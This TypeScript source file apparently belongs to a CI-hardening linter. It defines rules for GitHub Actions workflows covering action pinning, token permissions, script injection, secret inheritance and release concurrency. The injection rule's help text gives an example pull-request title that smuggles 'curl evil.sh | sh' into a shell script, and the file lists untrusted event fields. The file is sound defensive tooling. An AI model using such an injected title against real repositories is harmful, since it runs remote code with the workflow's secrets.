import {type Fault, type Ruling, glob, every, broken, held, none, notApplicable} from '#core';
import type {Expression} from './expression.ts';
import type {Policy} from './policy.ts';
import {type JobNode, jobOf} from './graph.ts';
import type {Simulated} from './simulation.ts';
import {fileName, noWorkflows, rule} from './rule.ts';
import {type Laid, layOut} from './wirings.ts';
import type {Concurrency, Job, Setting, Step, Workflow, Written} from './workflow.ts';
import {zizmorIn} from './zizmor.ts';

/** What zizmor judges as well is left to it where it must be green. */
function leftToZizmor(workflows: readonly Workflow[], policy: Policy): Ruling | undefined {
  const zizmor = zizmorIn(workflows, policy);
  return zizmor?.required ? notApplicable(`left to zizmor, the required check "${zizmor.name}" of ${zizmor.path}`) : undefined;
}

/** The workflows that upload something, or all of them under `level: strict`. */
function judged(workflows: readonly Workflow[], policy: Policy): readonly Laid[] {
  return workflows.map(workflow => layOut(workflow, policy)).filter(({uploads}) => policy.level === 'strict' || uploads.length > 0);
}

const noneJudged = (workflows: readonly Workflow[]): Ruling => (workflows.length === 0 ? noWorkflows() : notApplicable('no workflow uploads anything'));

const everyStep = (steps: readonly Step[]): readonly Step[] => steps.flatMap(step => [step, ...everyStep(step.inner ?? [])]);

/** The steps of a workflow's own jobs; what it calls is another file. */
const stepsOf = ({jobs}: Workflow): readonly {readonly job: Job; readonly step: Step}[] => jobs.flatMap(job => everyStep(job.steps).map(step => ({job, step})));

/** Each place once: an action that two workflows use is in one file. */
function distinct(faults: readonly Fault[]): readonly Fault[] {
  return [...new Map(faults.map(fault => [`${fault.at?.path} ${fault.key}`, fault])).values()];
}

type Pin = 'sha' | 'branch' | 'tag' | 'own';

/** By what a use names its version. A branch is told by its usual names: the file does not say which it is. */
function pinOf({text}: Written, owners: readonly string[]): Pin {
  if (text.startsWith('docker://')) return /@sha256:[0-9a-f]{64}$/.test(text) ? 'sha' : 'tag';
  const [, owner = '', ref = ''] = /^([^/@]*)[^@]*(?:@(.*))?$/.exec(text) ?? [];
  if (/^[0-9a-f]{40}(?:[0-9a-f]{24})?$/.test(ref)) return 'sha';
  if (owners.includes(owner.toLowerCase())) return 'own';
  return /^(?:main|master|develop|dev|trunk|head|next|latest)$/i.test(ref) ? 'branch' : 'tag';
}

export const pinned = rule({
  id: 'workflows.pin',
  about: 'Actions and reusable workflows of others are pinned.',
  enforcement: 'warn',
  help: `\`uses: owner/action@main\` runs whatever stands there tomorrow, with this job's secrets. A tag can be moved as well, and has been (tj-actions/changed-files,
March 2025); a full commit SHA cannot.

\`level: recommended\` names branches, and, once for each workflow that uploads something, the uses by tag. \`level: strict\` asks for a full SHA everywhere, and for a
digest of \`docker://\`. Uses of the repository itself and, under \`recommended\`, of the same owner are left alone.

**To fix it**, write the SHA with the version behind it: \`uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\`.
Dependabot and Renovate keep both up to date.`,
  on: ['workflows', 'surroundings'],
  check: ({workflows, surroundings}, policy) => {
    if (workflows.length === 0) return noWorkflows();
    const left = leftToZizmor(workflows, policy);
    if (left) return left;
    const strict = policy.level === 'strict';
    const uploading = new Set(judged(workflows, policy).map(({workflow}) => workflow.path));
    const uses = workflows.flatMap(workflow => [
      ...workflow.jobs.flatMap(job => (job.uses ? [job.uses] : [])), ...stepsOf(workflow).flatMap(({step}) => (step.uses ? [step.uses] : [])),
    ]
      .filter(({text}) => !/^(?:\.|\$)\//.test(text)).map(use => ({workflow, use, pin: pinOf(use, strict ? [] : surroundings.owners)})));
    if (uses.length === 0) return held();
    const faults = uses.flatMap(({workflow, use, pin}): Fault[] => {
      if (pin === 'branch') return [
        {key: use.text, at: use.at, message: `${use.text} follows what is newest: what runs can change at any time`, fix: 'Pin it to a full commit SHA, or at least to a version.'},
      ];
      if (pin !== 'tag') return [];
      if (strict) return [
        {key: use.text, at: use.at, message: `${use.text} is not pinned to a full ${use.text.startsWith('docker:') ? 'digest' : 'commit SHA'}`, fix: 'Pin it; a tag can be moved.'},
      ];
      const all = uses.filter(other => other.workflow === workflow && other.pin === 'tag');
      return uploading.has(workflow.path) && all[0]?.use === use
        ? [
          {
            key: 'tags', at: use.at,
            message: `${fileName(workflow)} uploads a release with ${all.length === 1 ? use.text : `${all.length} uses of actions`} by tag, and a tag can be moved`,
            fix: 'Pin them to full commit SHAs.',
          },
        ]
        : [];
    });
    return none(distinct(faults), uses.length, fault => fault);
  },
});

export const permissions = rule({
  id: 'workflows.permissions',
  about: 'Workflows say what their token may do.',
  enforcement: 'warn',
  help: `Without \`permissions\` a token may do what the repository's settings give it, which for older repositories is to write everything. An action that is taken over
then writes too.

Judged are workflows that upload something; under \`level: strict\` all of them. \`write-all\` says nothing either.

**To fix it**, write \`permissions: {}\` at the top of the file and the least that each job needs in it, \`contents: read\` for most.`,
  on: ['workflows'],
  check: ({workflows}, policy) => {
    const left = leftToZizmor(workflows, policy);
    if (left) return left;
    const all = judged(workflows, policy);
    if (all.length === 0) return noneJudged(workflows);
    return every(all, ({workflow}) => {
      const open = workflow.permissions === 'given' ? workflow.jobs.filter(job => job.permissions === 'all') : workflow.jobs.filter(job => job.permissions !== 'given');
      if (open.length === 0) return held();
      const all = workflow.permissions === 'all' || open.some(job => job.permissions === 'all');
      const whole = open.length === workflow.jobs.length;
      const named = whole ? '' : ` (${open.map(({id}) => id).slice(0, 5).join(', ')})`;
      return broken({
        key: 'permissions', at: whole ? workflow.at : open[0]!.at,
        message: `${fileName(workflow)} ${all ? 'gives its token everything' : `does not say what its token may do${named}`}`,
        fix: 'Write `permissions: {}` at the top, and what a job needs in the job.',
      });
    });
  },
});

/**
 * What a stranger can write freely, as globs with `/` for `.`.
 * Source: docs.github.com, "Security hardening for GitHub Actions", script injections; GitHub Security Lab, "Untrusted input".
 */
const untrusted = glob([
  'head_ref', 'event/{issue,pull_request,discussion}/{title,body}', 'event/{comment,review,review_comment}/body', 'event/pull_request/head/{ref,label}',
  'event/pull_request/head/repo/{default_branch,description,homepage}', 'event/head_commit/message', 'event/head_commit/{author,committer}/{email,name}',
  'event/commits/*/message', 'event/commits/*/{author,committer}/{email,name}', 'event/pages/*/page_name', 'event/changes/*/from', 'event/workflow_run/{head_branch,display_title}',
  'event/workflow_run/head_commit/message', 'event/workflow_run/head_commit/author/{email,name}', 'event/workflow_run/head_repository/description',
  'event/workflow_run/pull_requests/*/head/ref',
].map(path => `github/${path}`));

/** The contexts whose text ends up in what an expression becomes; a comparison becomes true or false. */
function textsIn(expression: Expression): readonly string[] {
  switch (expression.kind) {
    case 'path': return [expression.text];
    case 'other': return [expression.text.replaceAll(/\['?([^\]']*)'?\]/g, '.$1')];
    case 'and': return expression.args.slice(-1).flatMap(textsIn);
    case 'or': return expression.args.flatMap(textsIn);
    case 'call': return ['contains', 'startswith', 'endswith', 'hashfiles'].includes(expression.name) ? [] : expression.args.flatMap(textsIn);
    case 'literal':
    case 'not':
    case 'compare': return [];
  }
}

const isUntrusted = ({expression}: Setting): boolean => expression !== undefined && textsIn(expression).some(text => untrusted(text.replaceAll('.', '/')));

export const injection = rule({
  id: 'workflows.injection',
  about: 'What strangers write does not become part of a script.',
  enforcement: 'warn',
  help: `GitHub replaces \`\${{ }}\` before the shell reads the script. A pull request whose title is \`"; curl evil.sh | sh; "\` then runs that:

    - run: echo "\${{ github.event.pull_request.title }}"

\`level: recommended\` names what strangers can write: titles, bodies, comments, branch names and commit messages. \`level: strict\` names every \`\${{ }}\` in a script,
of actions/github-script too.

**To fix it**, hand it over in the environment, where it stays data:

    - run: echo "$TITLE"
      env:
        TITLE: \${{ github.event.pull_request.title }}`,
  on: ['workflows'],
  check: ({workflows}, policy) => {
    if (workflows.length === 0) return noWorkflows();
    const left = leftToZizmor(workflows, policy);
    if (left) return left;
    const scripts = workflows.flatMap(stepsOf).filter(({step}) => step.run);
    if (scripts.length === 0) return held();
    const faults = scripts.flatMap(({job, step}) => step.run!.embedded.filter(one => policy.level === 'strict' || isUntrusted(one)).map(({text, at}): Fault => ({
      key: `${job.id} ${text}`, at, message: `\${{ ${text} }} becomes part of a script`, fix: 'Put it into `env` and use the variable, in quotes.',
    })));
    return none(distinct(faults), scripts.length, fault => fault);
  },
});

export const inherit = rule({
  id: 'workflows.secrets-inherit',
  about: 'Workflows of others get only the secrets that they are named for.',
  enforcement: 'warn',
  help: `\`secrets: inherit\` hands every secret of the repository and its organisation to the called workflow, the ones that are added next year too.

Judged are calls of workflows of other repositories; under \`level: strict\` those of this repository as well.

**To fix it**, name them: \`secrets: {npm-token: \${{ secrets.NPM_TOKEN }}}\`.`,
  on: ['workflows', 'surroundings'],
  check: ({workflows, surroundings}, policy) => {
    const left = leftToZizmor(workflows, policy);
    if (left) return left;
    const calls = workflows.flatMap(workflow => workflow.jobs.flatMap(job => (job.uses ? [{job, uses: job.uses}] : [])));
    if (workflows.length === 0) return noWorkflows();
    return calls.length === 0 ? held() : every(calls, ({job, uses}) => {
      if (!job.inherits) return held();
      if (
        policy.level !== 'strict' && (/^(?:\.|\$)\//.test(uses.text) || surroundings.owners.includes(uses.text.split('/')[0]!.toLowerCase()))
      ) return {count: 'inherited by own workflows'};
      return broken({key: job.id, at: job.inherits, message: `The job ${job.id} hands every secret to ${uses.text}`, fix: 'Name the secrets that it needs.'});
    });
  },
});

export const concurrency = rule({
  id: 'workflows.concurrency',
  about: 'Two releases do not run at once, and none is cut off halfway.',
  enforcement: 'warn',
  help: `Two runs that upload at the same time can overtake each other: the older build ends up as the newest. \`cancel-in-progress: true\` is no way out: it cuts off an
upload in the middle.

    concurrency:
      group: release-\${{ github.repository }}
      cancel-in-progress: false

Judged are workflows that upload something: \`concurrency\` stands at the top, or in each job that uploads. Under \`level: recommended\` uploads that happen only for a
tag or a release are left alone, as each has a version of its own. A group that is named after the run (\`github.run_id\`) has nobody else in it. Note that without \`queue: max\` GitHub keeps one waiting run and cancels older waiting ones.

**To fix it**, add it to the workflow, or to the jobs that upload.`,
  on: ['workflows'],
  check: ({workflows}, policy) => {
    const uploading = workflows.map(workflow => layOut(workflow, policy)).filter(({uploads}) => uploads.length > 0);
    if (uploading.length === 0) return noneJudged(workflows);
    // A called workflow runs under the concurrency of its caller.
    const alone = uploading.filter(({workflow}) => !(workflow.triggers.size === 1 && workflow.triggers.has('workflow_call')));
    return every(alone, laid => oneAtATime(laid, policy));
  },
});

function oneAtATime({workflow, wiring, uploads}: Laid, {level}: Policy): Ruling | {readonly count: string} {
  const jobs = [...new Set(uploads.map(({node}) => jobOf(node)))];
  /** Whether there is a run in which the job uploads and something else is true. */
  const happens = (job: JobNode, holds: (run: Simulated) => boolean): boolean => wiring.when({nodes: new Set(), result: 'success'}, run => (level === 'strict' || !run.tagged())
    && uploads.some(upload => jobOf(upload.node) === job && run.does(upload)) && holds(run)) !== false;
  const groupsOf = (job: JobNode) => [workflow, ...lineOf(job).map(one => one.job)].flatMap(({concurrency: group}) => (group ? [group] : []));
  /** Whether a group has other runs in it: one that is named after the run has none. */
  const shared = ({alone}: Concurrency, run: Simulated): boolean => alone === undefined || (alone === 'but pull requests' && run.proposed());
  for (const job of jobs) {
    const cutting = groupsOf(job).find(group => group.cancels !== undefined && happens(job, run => shared(group, run) && run.agrees(job, group.cancels!)));
    if (cutting) return broken(
      {
        key: 'cancel-in-progress', at: cutting.at, message: `The upload of "${job.id}" is cut off when another run of ${fileName(workflow)} begins`,
        fix: 'Write `cancel-in-progress: false`, at least where it uploads.',
      }
    );
  }
  const open = jobs.filter(job => groupsOf(job).every(({alone}) => alone !== undefined));
  const first = open.find(job => happens(job, run => !groupsOf(job).some(group => shared(group, run))));
  if (!first) return open.every(job => groupsOf(job).length > 0) ? held() : {count: 'upload for a tag alone'};
  return broken(
    {
      key: 'concurrency', at: first.job.at, message: `Two runs of ${fileName(workflow)} can upload at the same time, in "${first.id}"`,
      fix: `Add \`concurrency\` to the workflow, or to ${open.map(({id}) => id).slice(0, 5).join(', ')}.`,
    }
  );
}

/** A job with those that call it, from the outermost. */
function lineOf(job: JobNode): readonly JobNode[] {
  return job.caller ? [...lineOf(job.caller), job] : [job];
}
